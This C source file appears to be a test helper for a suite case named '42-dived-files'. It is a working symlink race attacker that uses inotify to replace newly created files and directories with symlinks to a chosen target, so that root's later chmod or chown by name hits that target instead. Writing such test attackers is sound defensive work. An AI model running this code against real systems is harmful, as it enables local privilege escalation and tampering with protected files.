/* symswap DIR TARGET COUNT — the attacker of 42-dived-files: a user who
 * may write DIR replaces every name created there, the moment inotify
 * reports it, with a symlink to TARGET (a directory is moved aside first
 * and a symlink to TARGET's directory put in its place), hoping that
 * root's dived chmods or chowns by name after the swap. Stops after COUNT
 * events, or when DIR is removed. */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static void swap(const char *dir, const char *name, const char *target,
		 const char *tdir)
{
	char path[PATH_MAX], tmp[PATH_MAX], aside[PATH_MAX];
	struct stat st;
	if (!strcmp(name, ".swap") || strstr(name, ".aside"))
		return;
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if (lstat(path, &st) || S_ISLNK(st.st_mode))
		return;
	if (S_ISDIR(st.st_mode)) {
		snprintf(aside, sizeof(aside), "%s.aside", path);
		if (rename(path, aside) == 0)
			symlink(tdir, path);
		return;
	}
	snprintf(tmp, sizeof(tmp), "%s/.swap", dir);
	unlink(tmp);
	if (symlink(target, tmp) == 0)
		rename(tmp, path);
}

int main(int argc, char **argv)
{
	char tdir[PATH_MAX], buf[4096];
	if (argc != 4)
		return 2;
	long events = atol(argv[3]);
	snprintf(tdir, sizeof(tdir), "%s", argv[2]);
	char *slash = strrchr(tdir, '/');
	if (slash)
		*slash = 0;
	int in = inotify_init();
	if (in < 0 || inotify_add_watch(in, argv[1], IN_CREATE | IN_MOVED_TO |
					IN_DELETE_SELF) < 0)
		return 1;
	while (events > 0) {
		ssize_t n = read(in, buf, sizeof(buf));
		if (n <= 0)
			return 1;
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if (e->mask & (IN_DELETE_SELF | IN_IGNORED))
				return 0; /* the test is over */
			if (e->len)
				swap(argv[1], e->name, argv[2], tdir);
			p += sizeof(*e) + e->len;
			events--;
		}
	}
	return 0;
}
